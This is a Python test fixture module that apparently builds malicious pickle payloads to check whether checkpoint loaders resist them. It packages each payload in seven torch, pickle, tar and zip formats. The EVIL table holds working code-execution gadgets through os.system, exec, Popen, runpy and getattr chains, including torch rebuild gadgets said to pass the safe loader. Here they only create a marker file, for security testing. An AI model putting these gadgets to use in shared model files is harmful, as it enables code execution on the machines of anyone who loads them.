"""Files that call a function when they are loaded, and their formats.

The function writes ``marker`` next to them.
"""
import importlib
import io
import operator
import os
import pickle
import pydoc
import runpy
import subprocess
import tarfile
import zipfile
from functools import partial
from types import SimpleNamespace

import numpy as np
import torch
from mmengine.logging import HistoryBuffer


class Call:
    """An object that is unpickled by a call.

    Function and arguments may be such objects too.
    """

    def __init__(self, function, *arguments):
        self.call = function, arguments

    def __reduce__(self):
        return self.call

    def __call__(self):
        """Pickle needs functions that can be called."""


def attribute(owner, *names):
    for name in names:
        owner = Call(getattr, owner, name)
    return owner


def module(name):
    return Call(importlib.import_module, name)


def ladder():
    """Reach ``os.system`` by ``getattr`` from a class that checkpoints may name."""
    warnings = Call(attribute(HistoryBuffer, "update", "__globals__", "get"), "warnings")
    return attribute(Call(attribute(warnings, "sys", "modules", "get"), "os"), "system")


def history(content):
    """A HistoryBuffer whose history is not numbers."""
    buffer = HistoryBuffer([1.0], [1])
    buffer._log_history = content
    return buffer


EVIL = {  # name: function that makes the object to pickle, see evil()
    "posix.system": lambda use: Call(os.system, use.command),
    "eval": lambda use: Call(eval, use.code),
    "exec": lambda use: Call(exec, use.code),
    "Popen": lambda use: Call(attribute(Call(subprocess.Popen, use.command.split()), "wait")),
    "getattr": lambda use: Call(ladder(), use.command),
    "tofile": lambda use: Call(attribute(np.ndarray, "tofile"), np.arange(3), use.marker),
    "torch.load": lambda use: Call(torch.load, use.pickled, None, module("pickle")),
    "numpy.load": lambda use: Call(np.load, use.pickled, None, True),
    "numpy.memmap": lambda use: Call(np.memmap, use.marker, "u1", "w+", 0, (1,)),
    "objects": lambda use: np.array([Call(exec, use.code)], dtype=object),
    "reconstruct": lambda use: Call(np.array(0).__reduce__()[0], Call(exec, use.code), (0,), b"b"),
    "partial": lambda use: Call(partial(os.system, use.command)),
    "runpy": lambda use: Call(runpy.run_path, use.script),
    "importfile": lambda use: Call(pydoc.importfile, use.script),
    "import_module": lambda use: Call(attribute(module("os"), "system"), use.command),
    "attrgetter": lambda use: Call(Call(operator.attrgetter("system"), module("os")), use.command),
    "rebuild": lambda use: Call(torch._tensor._rebuild_from_type_v2, exec, None, (use.code,), {}),
    "rebuild getattr": lambda use: Call(  # torch's safe loader allows this, whatever it calls
        torch._tensor._rebuild_from_type_v2, attribute(np.ndarray, "tofile"), None, (np.arange(3), use.marker), {}),
    "history": lambda use: history(Call(exec, use.code)),
}


def evil(name, folder):
    """Make the object ``name`` of :data:`EVIL`.

    It writes ``folder/marker`` when it is unpickled.
    """
    use = SimpleNamespace(marker=str(folder / "marker"), script=str(folder / "script.py"),
                          pickled=str(folder / "pickled"))
    use.command, use.code = f"touch {use.marker}", f"open({use.marker!r}, 'w').close()"
    (folder / "script.py").write_text(use.code)
    (folder / "pickled").write_bytes(pickle.dumps(Call(exec, use.code)))
    return EVIL[name](use)


def zip_file(content, path):
    """As ``torch.save`` writes it today."""
    torch.save(content, path)


def legacy_file(content, path):
    """As torch < 1.6 wrote it."""
    torch.save(content, path, _use_new_zipfile_serialization=False)


def pickle_file(content, path, protocol=4):
    """A plain pickle."""
    path.write_bytes(pickle.dumps(content, protocol))


def text_pickle_file(content, path):
    """A pickle of the first protocol."""
    pickle_file(content, path, protocol=0)


def tar_file(content, path):
    """As torch 0.1 wrote it."""
    data = pickle.dumps(content, protocol=2)
    with tarfile.open(path, "w") as archive:
        for name in ("sys_info", "storages", "tensors", "pickle"):
            member = tarfile.TarInfo(name)
            member.size = len(data)
            archive.addfile(member, io.BytesIO(data))


def bare_zip_file(content, path):
    """A zip archive whose ``data.pkl`` is only the call."""
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("archive/data.pkl", pickle.dumps(content["state_dict"], protocol=2))
        archive.writestr("archive/version", "3\n")


def script_file(content, path):
    """As TorchScript writes it."""
    bare_zip_file(content, path)
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr("archive/constants.pkl", pickle.dumps(content["state_dict"], protocol=2))


FORMATS = (zip_file, legacy_file, pickle_file, text_pickle_file, tar_file, bare_zip_file, script_file)
